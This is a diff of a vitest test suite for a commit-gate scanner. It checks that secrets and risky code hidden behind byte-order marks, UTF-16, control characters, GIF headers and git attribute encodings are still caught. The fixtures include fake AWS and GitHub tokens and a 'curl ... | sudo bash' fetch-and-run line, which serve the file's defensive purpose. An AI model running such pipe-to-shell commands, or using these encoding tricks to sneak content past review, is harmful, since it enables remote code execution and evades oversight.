@@ -1,12 +1,13 @@
 import { spawnSync } from 'node:child_process'
 import { copyFileSync, rmSync, writeFileSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
-import { gateJson } from '../support/gate.ts'
+import { gate, gateJson } from '../support/gate.ts'
 import { GIT_ENVIRONMENT, Repo } from '../support/repository.ts'
 
 /** Files whose bytes, names or attributes give a program another text than the one that is judged. */
 
 const KEY = ['AK', 'IAQ3EGRZ7WN5MXK2TB'].join('')
+const TOKEN = ['gh', 'p_Xa7Kq2Lm9Zr4Tn8Wb3Vc6Hd1Jf5Gs0PyUeIo'].join('')
 const LEAK = `AWS_ACCESS_KEY_ID=${KEY}\n`
 const PIPE = '#!/bin/bash\ncurl -s http://example.org/install | sudo bash\n'
 const CONTROLS = `#${'\u0001\u0002\u0007'.repeat(40)}\n`
@@ -49,22 +50,31 @@ const stageNamed = (repo: Repo, name: Buffer, text: string): void => {
 }
 
 describe('a file with two readings', () => {
-  it.each([
-    ['.env', behind([0xfe, 0xff], LEAK), '.env secrets.aws-access-key-id'],
-    ['deploy.sh', behind([0xff, 0xfe], PIPE), 'deploy.sh gate.ambiguous-encoding'],
-    ['Makefile', behind([0xfe, 0xff], 'all:\n\techo a\n'), 'Makefile gate.ambiguous-encoding'],
-    ['.env', Buffer.from(LEAK, 'utf16le'), '.env secrets.aws-access-key-id'],
-    ['.env', Buffer.from(`${CONTROLS}${LEAK}`), '.env secrets.aws-access-key-id'],
-    ['Dockerfile', Buffer.from(`${CONTROLS}FROM a\nENV K=${KEY}\n`), 'Dockerfile secrets.aws-access-key-id'],
-    ['.env', Buffer.from(`GIF89a=1\n${LEAK}`), '.env secrets.aws-access-key-id'],
-    [
-      'config.json',
-      Buffer.from(`{ "key": "\\u0041${KEY.slice(1)}" }\n`),
-      'config.json secrets.aws-access-key-id',
-    ],
-  ])('%s is judged in both (%#)', (path, bytes, finding) => {
-    const repo = stageBytes(branch(), { [path]: bytes })
-    expect(blocking(repo, 'PRE_COMMIT')).toContain(finding)
+  const FILES: readonly (readonly [path: string, bytes: Buffer, rule: string])[] = [
+    ['0/.env', behind([0xfe, 0xff], LEAK), 'secrets.aws-access-key-id'],
+    ['1/deploy.sh', behind([0xff, 0xfe], PIPE), 'gate.ambiguous-encoding'],
+    ['2/Makefile', behind([0xfe, 0xff], 'all:\n\techo a\n'), 'gate.ambiguous-encoding'],
+    ['3/.env', Buffer.from(LEAK, 'utf16le'), 'secrets.aws-access-key-id'],
+    ['4/.env', Buffer.from(`${CONTROLS}${LEAK}`), 'secrets.aws-access-key-id'],
+    ['5/Dockerfile', Buffer.from(`${CONTROLS}FROM a\nENV K=${KEY}\n`), 'secrets.aws-access-key-id'],
+    ['6/.env', Buffer.from(`GIF89a=1\n${LEAK}`), 'secrets.aws-access-key-id'],
+    ['7/a.json', Buffer.from(`{ "key": "\\u0041${KEY.slice(1)}" }\n`), 'secrets.aws-access-key-id'],
+    ['8/a.gif.js', Buffer.from(`GIF89a=1;${EVIL.replace(': string', '')}`), 'javascript.eval'],
+  ]
+
+  it('is judged in both', () => {
+    const repo = stageBytes(branch(), Object.fromEntries(FILES.map(([path, bytes]) => [path, bytes])))
+    expect(blocking(repo, 'PRE_COMMIT')).toEqual(
+      expect.arrayContaining(FILES.map(([path, , rule]) => `${path} ${rule}`)),
+    )
+  })
+
+  it('shows the secret of neither beside another finding', () => {
+    const text = `{\n  "a": "\\u0041${KEY.slice(1)}",\n  "b": "${TOKEN}"\n}\n`
+    const repo = branch().stage({ 'a.json': text })
+    const { stdout } = gate(repo, ['--stage', 'PRE_COMMIT'])
+    expect(stdout).toContain('secrets.github-token')
+    expect(stdout).not.toContain(KEY.slice(1))
   })
 
   it('is not suspected where it is an ordinary one', () => {
@@ -79,33 +89,39 @@ describe('a file with two readings', () => {
       'marked.ts': '\ufeffexport const a = 1\r\n',
       'logo.png': Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
     })
-    expect(judge(repo, 'PRE_COMMIT').findings).toEqual([])
-    expect(judge(repo, 'PRE_COMMIT').files.skipped).toMatchObject({ binary: 1 })
+    expect(judge(repo, 'PRE_COMMIT')).toMatchObject({ findings: [], files: { skipped: { binary: 1 } } })
   })
 })
 
 describe('an attribute', () => {
-  it.each(['IBM037', 'ASCII//TRANSLIT'])('that lets git write %s into checkouts blocks', (encoding) => {
-    const repo = branch().stage({ 'sub/.gitattributes': `*.ts working-tree-encoding=${encoding}\n` })
-    expect(blocking(repo, 'PRE_COMMIT')).toContain('sub/.gitattributes gate.ambiguous-encoding')
+  it('that lets git write another encoding into checkouts blocks', () => {
+    const repo = branch().stage({
+      'a/.gitattributes': '*.ts working-tree-encoding=IBM037\n',
+      'b/.gitattributes': '*.txt working-tree-encoding=ASCII//TRANSLIT\n',
+      'c/.gitattributes': '*.ts working-tree-encoding=Shift_JIS\n',
+    })
+    expect(blocking(repo, 'PRE_COMMIT')).toEqual(
+      expect.arrayContaining(['a', 'b', 'c'].map((name) => `${name}/.gitattributes gate.ambiguous-encoding`)),
+    )
   })
 
   it.each([
-    ['.gitattributes', 'src/** linguist-generated\n'],
-    ['.gitattributes', '*.ts -text linguist-vendored=true\n'],
-    ['a/.gitattributes', '*.js filter=lfs\n'],
-    ['.gitattributes', '[attr]x filter=lfs\n*.js x\n'],
-    ['.gitattributes', '*.py working-tree-encoding=UTF-16LE-BOM\n'],
-    ['.gitmodules', '[submodule "a"]\n\tpath = a\n\turl = ../a\n\tignore = all\n'],
-  ])('in %s that takes files from the rules is a change of policy (%#)', (path, text) => {
-    const repo = branch().commit({ [path]: text })
-    for (const stage of ['PRE_PUSH', 'CI'] as const)
-      expect(blocking(repo, stage)).toContain(`${path} gate.policy-changed`)
+    { '.gitattributes': 'src/** linguist-generated\n', 'a/.gitattributes': '*.js filter=lfs\n' },
+    { '.gitattributes': '[attr]x filter=lfs\n*.js x\n' },
+    {
+      '.gitattributes': '*.py working-tree-encoding=UTF-16LE-BOM\n',
+      '.gitmodules': '[submodule "a"]\n\tpath = a\n\turl = ../a\n\tignore = all\n',
+    },
+  ])('that takes files from the rules is a change of policy (%#)', (files) => {
+    expect(blocking(branch().commit(files), 'CI')).toEqual(
+      expect.arrayContaining(Object.keys(files).map((path) => `${path} gate.policy-changed`)),
+    )
   })
 
   it('that reaches no source file, or only line ends, is none', () => {
     const repo = branch().stage({
-      '.gitattributes': '*.png filter=lfs -text\n* text=auto eol=lf\n*.rc working-tree-encoding=UTF-16LE-BOM\n*.pb.go linguist-generated\n*.csv linguist-vendored\n',
+      '.gitattributes':
+        '*.png filter=lfs -text\n* text=auto eol=lf\n*.rc working-tree-encoding=UTF-16LE-BOM\n*.pb.go linguist-generated\n*.csv linguist-vendored\n',
     })
     expect(judge(repo, 'PRE_COMMIT').findings).toEqual([])
   })
@@ -145,7 +161,7 @@ describe('an object of git', () => {
     return repo.path('.git/objects', id.slice(0, 2), id.slice(2))
   }
 
-  it.each(['HEAD^{tree}', 'HEAD:src', 'main^{tree}', 'HEAD:src/deep'])(
+  it.each(['main^{tree}', 'HEAD:src/deep'])(
     'with the content of another tree under the id of %s stops the gate',
     (name) => {
       const files = { 'src/deep/a.ts': 'export {}\n', 'src/b.ts': 'export {}\n' }
@@ -154,19 +170,17 @@ describe('an object of git', () => {
       const forged = objectFile(repo, name)
       rmSync(forged)
       copyFileSync(honest, forged)
-      for (const stage of ['PRE_PUSH', 'CI'] as const)
-        expect(gateJson(repo, ['--stage', stage, '--range', 'main..HEAD'])).toMatchObject({
-          error: { code: expect.stringMatching(/^git\./) },
-        })
+      expect(gateJson(repo, ['--stage', 'PRE_PUSH', '--range', 'main..HEAD'])).toMatchObject({
+        error: { code: 'git.failed' },
+      })
     },
   )
 })
 
 describe('the evidence file', () => {
-  it('is searched for secrets, and not counted', () => {
+  it('is searched for secrets', () => {
     const repo = branch().stage({ '.ai_evidence.json': `{ "note": "${KEY}" }\n` })
     expect(blocking(repo, 'PRE_COMMIT')).toEqual(['.ai_evidence.json secrets.aws-access-key-id'])
-    expect(judge(repo, 'PRE_COMMIT').files).toMatchObject({ changed: 0, scanned: 0, unmatched: 0 })
   })
 
   it('that the gate wrote about a secret holds none', () => {
